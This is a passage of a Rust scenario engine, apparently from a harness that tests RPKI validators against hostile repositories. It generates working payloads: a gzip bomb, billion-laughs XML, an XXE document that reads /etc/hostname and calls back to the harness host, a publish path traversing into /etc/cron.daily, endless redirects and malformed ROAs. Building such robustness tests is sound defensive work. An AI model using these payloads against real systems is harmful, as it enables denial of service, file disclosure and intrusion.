//! Scenario engine: deterministic, per-request generation of repository
//! content and HTTP behavior directives for the fifteen tests A through O.
//!
//! Nothing is materialized up front. Every resource is a pure function of
//! the instance record and the request path, which is what makes unbounded
//! trees servable: a node's address is encoded in the path and its keys are
//! derived from the instance UUID plus that address.

use std::collections::HashMap;
use std::fmt;
use std::io::Write as _;
use std::str::FromStr;
use std::sync::{Arc, Mutex, RwLock};

use base64::Engine as _;
use chrono::{DateTime, Utc};
use sha2::{Digest, Sha256};

use crate::cert::{build_ca_cert, build_crl, CaUris, Validity};
use crate::keys::{node_seed, KeyCache, KeyMode, KeyPair};
use crate::manifest::ManifestContent;
use crate::oid;
use crate::resources::{AddressFamily, Prefix, ResourceSet};
use crate::roa::{build_roa, build_roa_attack, RoaBlock};
use crate::sigobj::{sign_object, IssuerContext};
use crate::tal::Tal;

pub const RRDP_NS: &str = "http://www.ripe.net/rpki/rrdp";

//------------ TestId --------------------------------------------------------

/// One of the fifteen test scenarios.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
pub enum TestId {
    A, B, C, D, E, F, G, H, I, J, K, L, M, N, O,
}

impl TestId {
    pub const ALL: [TestId; 15] = [
        TestId::A, TestId::B, TestId::C, TestId::D, TestId::E, TestId::F,
        TestId::G, TestId::H, TestId::I, TestId::J, TestId::K, TestId::L,
        TestId::M, TestId::N, TestId::O,
    ];

    pub fn letter(self) -> char {
        (b'A' + self as u8) as char
    }

    pub fn from_letter(c: char) -> Option<TestId> {
        let idx = (c.to_ascii_uppercase() as u8).checked_sub(b'A')?;
        TestId::ALL.get(idx as usize).copied()
    }
}

impl fmt::Display for TestId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.letter())
    }
}

impl FromStr for TestId {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let mut chars = s.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => TestId::from_letter(c).ok_or_else(|| format!("unknown test {s:?}")),
            _ => Err(format!("unknown test {s:?}")),
        }
    }
}

//------------ TestParams ----------------------------------------------------

/// Per-instance knobs. Defaults depend on the test letter; the control
/// profile turns every attack off, producing a fully conformant tree.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct TestParams {
    /// Children per node in tree scenarios.
    pub width: u32,
    /// Tree depth; `None` means unbounded.
    pub depth: Option<u32>,
    /// ROAs per publication point (J/K use this as the attack volume).
    pub roa_count: u32,
    /// Byte size of the oversized payload (test L).
    pub payload_size: u64,
    /// Decompressed size of the gzip bomb (test D).
    pub bomb_decompressed: u64,
    /// Serving rate for the stalled connection (test E), bytes per second.
    pub trickle_rate: u64,
    /// Retry-After value in seconds (test B).
    pub retry_after: u64,
    /// Redirect chain length; `None` means unbounded (test C).
    pub redirect_hops: Option<u32>,
    /// Nesting levels of the entity-expansion document (test G).
    pub entity_levels: u32,
    /// Byte length of the oversized URI path (test N).
    pub path_len: u64,
    /// Benign control profile: same tree shape, no attack applied.
    pub control: bool,
    pub key_mode: KeyMode,
}

impl TestParams {
    pub fn defaults_for(test: TestId) -> TestParams {
        let mut p = TestParams {
            width: 1,
            depth: Some(0),
            roa_count: 3,
            payload_size: 8 << 30,
            bomb_decompressed: 256 << 20,
            trickle_rate: 3,
            retry_after: 86_400,
            redirect_hops: None,
            entity_levels: 10,
            path_len: 4 << 20,
            control: false,
            key_mode: KeyMode::Fast,
        };
        match test {
            TestId::A => {
                p.depth = None;
            }
            TestId::H => {
                p.width = 10;
                p.depth = Some(2);
            }
            TestId::J => p.roa_count = 10_000,
            TestId::K => p.roa_count = 100_000,
            _ => {}
        }
        p
    }

    fn tree_depth(&self) -> Option<u32> {
        if self.control {
            // control trees are always finite
            Some(self.depth.unwrap_or(1).min(4))
        } else {
            self.depth
        }
    }

    /// Applies a `key=value` override as accepted by the CLI.
    pub fn set(&mut self, key: &str, value: &str) -> Result<(), String> {
        fn num<T: FromStr>(v: &str) -> Result<T, String>
        where
            T::Err: fmt::Display,
        {
            v.parse().map_err(|e| format!("{e}"))
        }
        match key {
            "width" => self.width = num(value)?,
            "depth" => {
                self.depth = if value.eq_ignore_ascii_case("unbounded") {
                    None
                } else {
                    Some(num(value)?)
                }
            }
            "roa_count" => self.roa_count = num(value)?,
            "payload_size" => self.payload_size = num(value)?,
            "bomb_decompressed" => self.bomb_decompressed = num(value)?,
            "trickle_rate" => self.trickle_rate = num(value)?,
            "retry_after" => self.retry_after = num(value)?,
            "redirect_hops" => {
                self.redirect_hops = if value.eq_ignore_ascii_case("unbounded") {
                    None
                } else {
                    Some(num(value)?)
                }
            }
            "entity_levels" => self.entity_levels = num(value)?,
            "path_len" => self.path_len = num(value)?,
            "control" => self.control = num(value)?,
            "key_mode" => {
                self.key_mode = match value {
                    "fast" => KeyMode::Fast,
                    "rsa2048" => KeyMode::Rsa2048,
                    other => return Err(format!("unknown key mode {other:?}")),
                }
            }
            other => return Err(format!("unknown parameter {other:?}")),
        }
        Ok(())
    }
}

//------------ TestInstance --------------------------------------------------

/// One live scenario instance.
#[derive(Debug, Clone, serde::Serialize, serde::Deserialize)]
pub struct TestInstance {
    pub test: TestId,
    pub uuid: String,
    pub hostname: String,
    pub created_at: DateTime<Utc>,
    pub params: TestParams,
}

impl TestInstance {
    fn validity(&self) -> Validity {
        Validity::around(self.created_at)
    }

    /// RRDP session id, derived from the instance UUID.
    pub fn session_id(&self) -> String {
        let h = Sha256::digest(format!("{}|session", self.uuid).as_bytes());
        format!(
            "{}-{}-{}-{}-{}",
            hex::encode(&h[0..4]),
            hex::encode(&h[4..6]),
            hex::encode(&h[6..8]),
            hex::encode(&h[8..10]),
            hex::encode(&h[10..16]),
        )
    }
}

//------------ NodeAddress ---------------------------------------------------

/// Path from the root CA to a node in a generated tree.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Default)]
pub struct NodeAddress(pub Vec<u32>);

impl NodeAddress {
    pub fn root() -> NodeAddress {
        NodeAddress(Vec::new())
    }

    pub fn depth(&self) -> u32 {
        self.0.len() as u32
    }

    pub fn child(&self, index: u32) -> NodeAddress {
        let mut path = self.0.clone();
        path.push(index);
        NodeAddress(path)
    }

    /// URL path prefix: "" for the root, "c0/c2/" for a nested node.
    pub fn path_prefix(&self) -> String {
        let mut out = String::new();
        for idx in &self.0 {
            out.push('c');
            out.push_str(&idx.to_string());
            out.push('/');
        }
        out
    }

    pub fn cn(&self) -> String {
        if self.0.is_empty() {
            "ca-root".to_string()
        } else {
            let parts: Vec<String> = self.0.iter().map(|i| format!("c{i}")).collect();
            format!("ca-{}", parts.join("-"))
        }
    }

    fn from_segments(segments: &[&str]) -> Option<NodeAddress> {
        let mut path = Vec::new();
        for seg in segments {
            let idx = seg.strip_prefix('c')?;
            path.push(idx.parse().ok()?);
        }
        Some(NodeAddress(path))
    }
}

//------------ GeneratedResource ---------------------------------------------

/// Server-side directive attached to a resource.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HttpBehavior {
    Normal,
    NotFound,
    /// 429 with a Retry-After header.
    RateLimit { retry_after_secs: u64 },
    /// 302 to the next hop of an endless, never-repeating chain.
    RedirectChain { next_hop: u64 },
    /// Body is a gzip stream served with Content-Encoding: gzip.
    GzipBomb { compressed_len: u64, decompressed_len: u64 },
    /// Stream the body at a fixed rate without ever closing early.
    Trickle { rate_bytes_per_sec: u64 },
    /// Stream `total_len` pseudorandom bytes.
    Huge { total_len: u64 },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Body {
    Bytes(Vec<u8>),
    /// Deterministic pseudorandom stream; never held in memory at once.
    RandomStream { total_len: u64, seed: u64 },
}

impl Body {
    pub fn len(&self) -> u64 {
        match self {
            Body::Bytes(b) => b.len() as u64,
            Body::RandomStream { total_len, .. } => *total_len,
        }
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeneratedResource {
    pub body: Body,
    pub media_type: &'static str,
    pub behavior: HttpBehavior,
}

impl GeneratedResource {
    fn not_found() -> GeneratedResource {
        GeneratedResource {
            body: Body::Bytes(b"not found\n".to_vec()),
            media_type: "text/plain",
            behavior: HttpBehavior::NotFound,
        }
    }

    fn xml(body: Vec<u8>) -> GeneratedResource {
        GeneratedResource {
            body: Body::Bytes(body),
            media_type: "application/xml",
            behavior: HttpBehavior::Normal,
        }
    }

    fn der(body: Vec<u8>) -> GeneratedResource {
        GeneratedResource {
            body: Body::Bytes(body),
            media_type: "application/octet-stream",
            behavior: HttpBehavior::Normal,
        }
    }
}

//------------ Engine --------------------------------------------------------

/// Instance registry plus content generation.
pub struct Engine {
    base_domain: String,
    key_cache: KeyCache,
    instances: RwLock<HashMap<String, Arc<TestInstance>>>,
    // memoized snapshot bodies; hashing a snapshot for the notification and
    // then serving it would otherwise generate everything twice
    snapshot_memo: Mutex<HashMap<(String, String), Arc<Vec<u8>>>>,
}

impl Engine {
    pub fn new(base_domain: impl Into<String>) -> Engine {
        Engine {
            base_domain: base_domain.into(),
            key_cache: KeyCache::new(),
            instances: RwLock::new(HashMap::new()),
            snapshot_memo: Mutex::new(HashMap::new()),
        }
    }

    pub fn base_domain(&self) -> &str {
        &self.base_domain
    }

    /// Mints a fresh instance and registers it for SNI routing.
    pub fn new_instance(&self, test: TestId, params: TestParams) -> Arc<TestInstance> {
        let uuid = uuid::Uuid::new_v4().to_string();
        self.new_instance_with_uuid(test, params, uuid)
    }

    /// Like `new_instance` with a caller-chosen UUID (tests need stable ones).
    pub fn new_instance_with_uuid(
        &self,
        test: TestId,
        params: TestParams,
        uuid: String,
    ) -> Arc<TestInstance> {
        let hostname = format!(
            "{}-{}.{}",
            test.letter().to_ascii_lowercase(),
            uuid,
            self.base_domain
        );
        let instance = Arc::new(TestInstance {
            test,
            uuid,
            hostname: hostname.clone(),
            created_at: Utc::now(),
            params,
        });
        self.instances
            .write()
            .unwrap()
            .insert(hostname, instance.clone());
        instance
    }

    /// Hostname lookup, case-insensitive per DNS.
    pub fn lookup(&self, hostname: &str) -> Option<Arc<TestInstance>> {
        self.instances
            .read()
            .unwrap()
            .get(&hostname.to_ascii_lowercase())
            .cloned()
    }

    pub fn instances(&self) -> Vec<Arc<TestInstance>> {
        self.instances.read().unwrap().values().cloned().collect()
    }

    /// The trust anchor locator for an instance.
    pub fn tal_for(&self, instance: &TestInstance) -> Tal {
        let root = self.node_key(instance, &NodeAddress::root());
        Tal::new(
            vec![
                format!("https://{}/ta.cer", instance.hostname),
                format!("rsync://{}/repo/ta.cer", instance.hostname),
            ],
            root.spki().to_vec(),
        )
        .expect("two URIs")
    }

    fn node_key(&self, instance: &TestInstance, node: &NodeAddress) -> Arc<KeyPair> {
        let seed = node_seed(&instance.uuid, &format!("ca/{}", node.path_prefix()));
        self.key_cache.get(seed, instance.params.key_mode)
    }

    fn object_key(&self, instance: &TestInstance, node: &NodeAddress, name: &str) -> Arc<KeyPair> {
        let seed = node_seed(&instance.uuid, &format!("ee/{}{}", node.path_prefix(), name));
        self.key_cache.get(seed, instance.params.key_mode)
    }

    /// Resolves a request path for an instance to a generated resource.
    /// Unknown or escaping paths yield a NotFound resource.
    pub fn resolve(&self, instance: &TestInstance, request_path: &str) -> GeneratedResource {
        let path = request_path.trim_start_matches('/');
        let segments: Vec<&str> = path.split('/').collect();
        if segments
            .iter()
            .any(|s| s.is_empty() || *s == "." || *s == "..")
        {
            return GeneratedResource::not_found();
        }
        match segments.as_slice() {
            ["ta.cer"] => GeneratedResource::der(self.root_cert(instance)),
            ["huge.bin"] if instance.test == TestId::L && !instance.params.control => {
                GeneratedResource {
                    body: Body::RandomStream {
                        total_len: instance.params.payload_size,
                        seed: seed_u64(&instance.uuid, "huge"),
                    },
                    media_type: "application/octet-stream",
                    behavior: HttpBehavior::Huge {
                        total_len: instance.params.payload_size,
                    },
                }
            }
            ["redirect", hop] if instance.test == TestId::C && !instance.params.control => {
                match hop.parse::<u64>() {
                    Ok(n) => match instance.params.redirect_hops {
                        Some(max) if n >= max as u64 => {
                            GeneratedResource::xml(self.notification_body(instance, &NodeAddress::root()))
                        }
                        _ => GeneratedResource {
                            body: Body::Bytes(Vec::new()),
                            media_type: "text/plain",
                            behavior: HttpBehavior::RedirectChain { next_hop: n + 1 },
                        },
                    },
                    Err(_) => GeneratedResource::not_found(),
                }
            }
            ["callback", _token] => GeneratedResource {
                body: Body::Bytes(Vec::new()),
                media_type: "text/plain",
                behavior: HttpBehavior::Normal,
            },
            [node_segments @ .., file] => {
                let Some(node) = NodeAddress::from_segments(node_segments) else {
                    return GeneratedResource::not_found();
                };
                if !self.node_exists(instance, &node) {
                    return GeneratedResource::not_found();
                }
                match *file {
                    "notification.xml" => self.notification(instance, &node),
                    "snapshot.xml" => self.snapshot(instance, &node),
                    _ => GeneratedResource::not_found(),
                }
            }
            _ => GeneratedResource::not_found(),
        }
    }

    fn node_exists(&self, instance: &TestInstance, node: &NodeAddress) -> bool {
        if node.0.is_empty() {
            return true;
        }
        // non-tree tests only have the root publication point
        if !matches!(instance.test, TestId::A | TestId::H) && !instance.params.control {
            return false;
        }
        if node.0.iter().any(|&i| i >= self.width_of(instance)) {
            return false;
        }
        match self.tree_depth(instance) {
            Some(d) => node.depth() <= d,
            None => true,
        }
    }

    fn width_of(&self, instance: &TestInstance) -> u32 {
        match instance.test {
            TestId::A if !instance.params.control => 1,
            TestId::A | TestId::H => instance.params.width.max(1),
            _ if instance.params.control => instance.params.width.max(1),
            _ => 1,
        }
    }

    fn tree_depth(&self, instance: &TestInstance) -> Option<u32> {
        match instance.test {
            TestId::A | TestId::H => instance.params.tree_depth(),
            _ => Some(if instance.params.control {
                instance.params.tree_depth().unwrap_or(0)
            } else {
                0
            }),
        }
    }

    fn children_at(&self, instance: &TestInstance, node: &NodeAddress) -> u32 {
        match self.tree_depth(instance) {
            Some(d) if node.depth() >= d => 0,
            _ => self.width_of(instance),
        }
    }

    fn root_cert(&self, instance: &TestInstance) -> Vec<u8> {
        let key = self.node_key(instance, &NodeAddress::root());
        let host = &instance.hostname;
        let uris = CaUris {
            repository: format!("rsync://{host}/repo/"),
            manifest: format!("rsync://{host}/repo/manifest.mft"),
            rrdp_notify: format!("https://{host}/notification.xml"),
            aia: None,
            crl: None,
        };
        build_ca_cert(
            &key,
            "ca-root",
            &key,
            "ca-root",
            &ResourceSet::all(),
            &uris,
            instance.validity(),
            1,
        )
        .expect("root resources are non-empty")
        .der
    }

    fn notification(&self, instance: &TestInstance, node: &NodeAddress) -> GeneratedResource {
        if !instance.params.control && node.0.is_empty() {
            match instance.test {
                TestId::B => {
                    return GeneratedResource {
                        body: Body::Bytes(b"rate limited\n".to_vec()),
                        media_type: "text/plain",
                        behavior: HttpBehavior::RateLimit {
                            retry_after_secs: instance.params.retry_after,
                        },
                    }
                }
                TestId::C => {
                    return GeneratedResource {
                        body: Body::Bytes(Vec::new()),
                        media_type: "text/plain",
                        behavior: HttpBehavior::RedirectChain { next_hop: 1 },
                    }
                }
                _ => {}
            }
        }
        GeneratedResource::xml(self.notification_body(instance, node))
    }

    fn notification_body(&self, instance: &TestInstance, node: &NodeAddress) -> Vec<u8> {
        let host = &instance.hostname;
        let prefix = node.path_prefix();
        let (snapshot_uri, hash) = if instance.test == TestId::L && !instance.params.control {
            // the snapshot "is" a multi-gigabyte blob; the hash cannot be
            // meaningful before the transfer completes
            (
                format!("https://{host}/huge.bin"),
                hex::encode(Sha256::digest([])),
            )
        } else {
            let snapshot = self.snapshot_served_bytes(instance, node);
            (
                format!("https://{host}/{prefix}snapshot.xml"),
                hex::encode(Sha256::digest(snapshot.as_slice())),
            )
        };
        format!(
            "<notification xmlns=\"{RRDP_NS}\" version=\"1\" session_id=\"{}\" serial=\"1\">\n  \
             <snapshot uri=\"{snapshot_uri}\" hash=\"{hash}\"/>\n</notification>\n",
            instance.session_id()
        )
        .into_bytes()
    }

    fn snapshot(&self, instance: &TestInstance, node: &NodeAddress) -> GeneratedResource {
        if !instance.params.control && node.0.is_empty() {
            match instance.test {
                TestId::D => {
                    let bomb = gzip_bomb(instance.params.bomb_decompressed);
                    let compressed_len = bomb.len() as u64;
                    return GeneratedResource {
                        body: Body::Bytes(bomb),
                        media_type: "application/xml",
                        behavior: HttpBehavior::GzipBomb {
                            compressed_len,
                            decompressed_len: instance.params.bomb_decompressed,
                        },
                    };
                }
                TestId::E => {
                    let body = self.snapshot_bytes(instance, node);
                    return GeneratedResource {
                        body: Body::Bytes(body.as_ref().clone()),
                        media_type: "application/xml",
                        behavior: HttpBehavior::Trickle {
                            rate_bytes_per_sec: instance.params.trickle_rate.max(1),
                        },
                    };
                }
                _ => {}
            }
        }
        GeneratedResource::xml(self.snapshot_served_bytes(instance, node))
    }

    /// The bytes the snapshot endpoint actually serves as XML, which is
    /// what the notification must hash.
    fn snapshot_served_bytes(&self, instance: &TestInstance, node: &NodeAddress) -> Vec<u8> {
        if !instance.params.control && node.0.is_empty() {
            match instance.test {
                TestId::G => {
                    return billion_laughs_doc(instance, instance.params.entity_levels)
                }
                TestId::M => return xxe_doc(instance),
                _ => {}
            }
        }
        self.snapshot_bytes(instance, node).as_ref().clone()
    }

    fn snapshot_bytes(&self, instance: &TestInstance, node: &NodeAddress) -> Arc<Vec<u8>> {
        let key = (instance.uuid.clone(), node.path_prefix());
        if let Some(hit) = self.snapshot_memo.lock().unwrap().get(&key) {
            return hit.clone();
        }
        let body = Arc::new(self.render_snapshot(instance, node));
        let mut memo = self.snapshot_memo.lock().unwrap();
        if memo.len() >= 128 {
            memo.clear();
        }
        memo.insert(key, body.clone());
        body
    }

    fn render_snapshot(&self, instance: &TestInstance, node: &NodeAddress) -> Vec<u8> {
        let host = &instance.hostname;
        let prefix = node.path_prefix();
        let mut publishes: Vec<(String, Vec<u8>)> = self
            .publication_point(instance, node)
            .into_iter()
            .map(|(name, bytes)| (format!("rsync://{host}/repo/{prefix}{name}"), bytes))
            .collect();
        if !instance.params.control && node.0.is_empty() {
            match instance.test {
                TestId::N => {
                    let long_name: String =
                        "p".repeat(instance.params.path_len as usize) + ".roa";
                    let body = self.benign_roa_bytes(instance, node, "long.roa", 0);
                    publishes.push((format!("rsync://{host}/repo/{long_name}"), body));
                }
                TestId::O => {
                    let body = self.benign_roa_bytes(instance, node, "evil.roa", 0);
                    publishes.push((
                        format!("rsync://{host}/repo/../../etc/cron.daily/evil.roa"),
                        body,
                    ));
                }
                _ => {}
            }
        }
        let mut out = String::with_capacity(1024);
        out.push_str(&format!(
            "<snapshot xmlns=\"{RRDP_NS}\" version=\"1\" session_id=\"{}\" serial=\"1\">\n",
            instance.session_id()
        ));
        let b64 = base64::engine::general_purpose::STANDARD;
        for (uri, bytes) in &publishes {
            out.push_str("  <publish uri=\"");
            out.push_str(uri);
            out.push_str("\">");
            out.push_str(&b64.encode(bytes));
            out.push_str("</publish>\n");
        }
        out.push_str("</snapshot>\n");
        out.into_bytes()
    }

    /// All objects of one publication point, manifest included.
    pub fn publication_point(
        &self,
        instance: &TestInstance,
        node: &NodeAddress,
    ) -> Vec<(String, Vec<u8>)> {
        let host = &instance.hostname;
        let prefix = node.path_prefix();
        let ca_key = self.node_key(instance, node);
        let validity = instance.validity();
        let ca_cn = node.cn();
        let ca_cert_uri = if node.0.is_empty() {
            format!("rsync://{host}/repo/ta.cer")
        } else {
            let parent = NodeAddress(node.0[..node.0.len() - 1].to_vec());
            let last = node.0[node.0.len() - 1];
            format!(
                "rsync://{host}/repo/{}c{last}.cer",
                parent.path_prefix()
            )
        };
        let crl_uri = format!("rsync://{host}/repo/{prefix}ca.crl");
        let issuer = IssuerContext {
            key: &ca_key,
            cn: &ca_cn,
            crl_uri: &crl_uri,
            aia_uri: &ca_cert_uri,
        };

        let mut objects: Vec<(String, Vec<u8>)> = Vec::new();

        // child CA certificates
        for i in 0..self.children_at(instance, node) {
            let child = node.child(i);
            let child_key = self.node_key(instance, &child);
            let child_prefix = child.path_prefix();
            let child_uris = CaUris {
                repository: format!("rsync://{host}/repo/{child_prefix}"),
                manifest: format!("rsync://{host}/repo/{child_prefix}manifest.mft"),
                rrdp_notify: format!("https://{host}/{child_prefix}notification.xml"),
                aia: Some(ca_cert_uri.clone()),
                crl: Some(crl_uri.clone()),
            };
            let cert = build_ca_cert(
                &ca_key,
                &ca_cn,
                &child_key,
                &child.cn(),
                &ResourceSet::all(),
                &child_uris,
                validity,
                1000 + i as u64,
            )
            .expect("child resources non-empty");
            objects.push((format!("c{i}.cer"), cert.der));
        }

        // ROAs (and deliberately broken objects for F/I)
        let mut serial = 2u64;
        for (name, econtent) in self.roa_contents(instance, node) {
            let ee_key = self.object_key(instance, node, &name);
            let bundle = sign_object(
                &oid::CT_ROA,
                &econtent,
                &issuer,
                &ee_key,
                &format!("rsync://{host}/repo/{prefix}{name}"),
                validity,
                serial,
            );
            serial += 1;
            objects.push((name, bundle.der));
        }

        // CRL
        objects.push((
            "ca.crl".to_string(),
            build_crl(&ca_key, &ca_cn, &[], validity, 1),
        ));

        // manifest over everything above
        objects.sort_by(|a, b| a.0.cmp(&b.0));
        let mft_content = ManifestContent::for_files(
            1,
            validity.not_before,
            validity.not_after,
            objects.iter().map(|(n, b)| (n.as_str(), b.as_slice())),
        )
        .expect("generated names are unique");
        let mft_key = self.object_key(instance, node, "manifest.mft");
        let mft = sign_object(
            &oid::CT_MANIFEST,
            &mft_content.encode(),
            &issuer,
            &mft_key,
            &format!("rsync://{host}/repo/{prefix}manifest.mft"),
            validity,
            serial,
        );
        objects.push(("manifest.mft".to_string(), mft.der));
        objects
    }

    fn roa_contents(&self, instance: &TestInstance, node: &NodeAddress) -> Vec<(String, Vec<u8>)> {
        let params = &instance.params;
        if params.control || matches!(instance.test, TestId::A | TestId::H) {
            let count = if matches!(instance.test, TestId::A | TestId::H) && !params.control {
                1
            } else {
                params.roa_count.min(1000)
            };
            return (0..count)
                .map(|i| {
                    (
                        format!("roa-{i:03}.roa"),
                        benign_roa_content(node.depth(), i),
                    )
                })
                .collect();
        }
        match instance.test {
            TestId::F => vec![
                ("good.roa".to_string(), benign_roa_content(0, 0)),
                // the entire eContent is a single NUL byte
                ("broken.roa".to_string(), vec![0u8]),
            ],
            TestId::I => vec![
                ("good.roa".to_string(), benign_roa_content(0, 0)),
                ("impossible.roa".to_string(), impossible_roa_content()),
            ],
            TestId::J => (0..params.roa_count)
                .map(|i| {
                    // one prefix, consecutive ASNs
                    let roa = build_roa(
                        1 + i,
                        &[(Prefix::new(AddressFamily::Ipv4, 10 << 120, 8).unwrap(), None)],
                    )
                    .expect("valid prefix");
                    (format!("roa-{i:06}.roa"), roa.encode())
                })
                .collect(),
            TestId::K => subprefix_roas(params.roa_count),
            _ => (0..params.roa_count.min(16).max(1))
                .map(|i| {
                    (
                        format!("roa-{i:03}.roa"),
                        benign_roa_content(node.depth(), i),
                    )
                })
                .collect(),
        }
    }

    fn benign_roa_bytes(
        &self,
        instance: &TestInstance,
        node: &NodeAddress,
        name: &str,
        index: u32,
    ) -> Vec<u8> {
        let host = &instance.hostname;
        let prefix = node.path_prefix();
        let ca_key = self.node_key(instance, node);
        let ca_cn = node.cn();
        let crl_uri = format!("rsync://{host}/repo/{prefix}ca.crl");
        let aia_uri = format!("rsync://{host}/repo/ta.cer");
        let issuer = IssuerContext {
            key: &ca_key,
            cn: &ca_cn,
            crl_uri: &crl_uri,
            aia_uri: &aia_uri,
        };
        let ee_key = self.object_key(instance, node, name);
        sign_object(
            &oid::CT_ROA,
            &benign_roa_content(node.depth(), index),
            &issuer,
            &ee_key,
            &format!("rsync://{host}/repo/{prefix}{name}"),
            instance.validity(),
            900,
        )
        .der
    }
}

/// The well-formed ROA placed at publication points that are not themselves
/// the object-level attack.
fn benign_roa_content(depth: u32, index: u32) -> Vec<u8> {
    let prefix = Prefix::new(
        AddressFamily::Ipv4,
        (10u128 << 120) | (((depth % 200) as u128) << 112) | (((index % 256) as u128) << 104),
        24,
    )
    .unwrap();
    build_roa(64500 + index, &[(prefix, Some(24))])
        .expect("static prefix is valid")
        .encode()
}

/// Syntactically correct, semantically broken: a 33-bit IPv4 prefix with a
/// maxLength of 200.
fn impossible_roa_content() -> Vec<u8> {
    build_roa_attack(
        65001,
        vec![RoaBlock {
            family: AddressFamily::Ipv4,
            prefix_bits: vec![10, 0, 0, 0, 0x80],
            prefix_len: 33,
            max_length: Some(200),
        }],
    )
    .encode()
}

/// Subprefixes of 2001:db8::/48 enumerated breadth-first down to /128.
fn subprefix_roas(count: u32) -> Vec<(String, Vec<u8>)> {
    let base: u128 = 0x2001_0db8 << 96;
    let mut out = Vec::with_capacity(count as usize);
    let mut len = 48u8;
    let mut index_in_level: u128 = 0;
    for i in 0..count {
        let level_size = 1u128 << (len - 48).min(80);
        let bits = base | (index_in_level << (128 - len as u32));
        let prefix = Prefix::new(AddressFamily::Ipv6, bits, len).unwrap();
        let roa = build_roa(65010, &[(prefix, None)]).expect("valid prefix");
        out.push((format!("roa-{i:06}.roa"), roa.encode()));
        index_in_level += 1;
        if index_in_level >= level_size && len < 128 {
            len += 1;
            index_in_level = 0;
        }
    }
    out
}

/// Nested entity-expansion document. `levels` tiers of tenfold expansion:
/// 10^levels logical entities from a few kilobytes of text.
fn billion_laughs_doc(instance: &TestInstance, levels: u32) -> Vec<u8> {
    let mut doc = String::with_capacity(4096);
    doc.push_str("<?xml version=\"1.0\" encoding=\"US-ASCII\"?>\n<!DOCTYPE snapshot [\n");
    doc.push_str("  <!ENTITY lol0 \"lol\">\n");
    for level in 1..=levels {
        let refs = format!("&lol{};", level - 1).repeat(10);
        doc.push_str(&format!("  <!ENTITY lol{level} \"{refs}\">\n"));
    }
    doc.push_str("]>\n");
    doc.push_str(&format!(
        "<snapshot xmlns=\"{RRDP_NS}\" version=\"1\" session_id=\"{}\" serial=\"1\">\n  \
         <publish uri=\"rsync://{}/repo/lol.roa\">&lol{levels};</publish>\n</snapshot>\n",
        instance.session_id(),
        instance.hostname,
    ));
    doc.into_bytes()
}

/// External-entity document: one entity pointing at a harness-controlled
/// callback URI and one at a local file, both referenced inside the uri
/// attribute of a publish element.
fn xxe_doc(instance: &TestInstance) -> Vec<u8> {
    let host = &instance.hostname;
    format!(
        "<?xml version=\"1.0\" encoding=\"US-ASCII\"?>\n\
         <!DOCTYPE snapshot [\n  \
         <!ENTITY cb SYSTEM \"https://{host}/callback/xxe\">\n  \
         <!ENTITY leak SYSTEM \"file:///etc/hostname\">\n]>\n\
         <snapshot xmlns=\"{RRDP_NS}\" version=\"1\" session_id=\"{}\" serial=\"1\">\n  \
         <publish uri=\"rsync://{host}/repo/&cb;&leak;.roa\">AA==</publish>\n</snapshot>\n",
        instance.session_id(),
    )
    .into_bytes()
}

/// A gzip stream of zeros with the requested decompressed size. Deflate
/// tops out near 1030:1, so the compressed size is roughly
/// `decompressed_len / 1000`.
pub fn gzip_bomb(decompressed_len: u64) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(
        Vec::with_capacity((decompressed_len / 900) as usize),
        flate2::Compression::best(),
    );
    let chunk = vec![0u8; 1 << 20];
    let mut remaining = decompressed_len;
    while remaining > 0 {
        let n = remaining.min(chunk.len() as u64) as usize;
        encoder.write_all(&chunk[..n]).expect("writing to Vec");
        remaining -= n as u64;
    }
    encoder.finish().expect("writing to Vec")
}

fn seed_u64(uuid: &str, label: &str) -> u64 {
    let h = Sha256::digest(format!("{uuid}|{label}").as_bytes());
    u64::from_be_bytes(h[..8].try_into().unwrap())
}

/// Fills `buf` with the deterministic pseudorandom stream starting at
/// `offset` for the given seed (used by the streaming server).
pub fn fill_random_stream(seed: u64, offset: u64, buf: &mut [u8]) {
    // splitmix64 per 8-byte lane; cheap and reproducible at any offset
    for (i, b) in buf.iter_mut().enumerate() {
        let pos = offset + i as u64;
        let lane = pos / 8;
        let mut z = seed.wrapping_add(lane.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^= z >> 31;
        *b = z.to_le_bytes()[(pos % 8) as usize];
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read as _;

    fn engine() -> Engine {
        Engine::new("example.org")
    }

    fn instance(engine: &Engine, test: TestId) -> Arc<TestInstance> {
        engine.new_instance(test, TestParams::defaults_for(test))
    }

    #[test]
    fn hostname_scheme() {
        let e = engine();
        let inst = instance(&e, TestId::H);
        assert!(inst.hostname.starts_with("h-"));
        assert!(inst.hostname.ends_with(".example.org"));
        assert_eq!(inst.hostname, inst.hostname.to_ascii_lowercase());
        assert!(e.lookup(&inst.hostname.to_ascii_uppercase()).is_some());
    }

    #[test]
    fn distinct_uuids() {
        let e = engine();
        let a = instance(&e, TestId::A);
        let b = instance(&e, TestId::A);
        assert_ne!(a.uuid, b.uuid);
        assert_ne!(a.hostname, b.hostname);
    }

    #[test]
    fn resolve_is_deterministic() {
        let e = engine();
        let inst = instance(&e, TestId::F);
        let a = e.resolve(&inst, "/snapshot.xml");
        let b = e.resolve(&inst, "/snapshot.xml");
        assert_eq!(a, b);
        let n1 = e.resolve(&inst, "/notification.xml");
        let n2 = e.resolve(&inst, "/notification.xml");
        assert_eq!(n1, n2);
    }

    #[test]
    fn escaping_path_not_found() {
        let e = engine();
        let inst = instance(&e, TestId::A);
        for path in ["/../etc/passwd", "/c0/../../x", "//x", "/nope.bin"] {
            assert_eq!(
                e.resolve(&inst, path).behavior,
                HttpBehavior::NotFound,
                "{path}"
            );
        }
    }

    #[test]
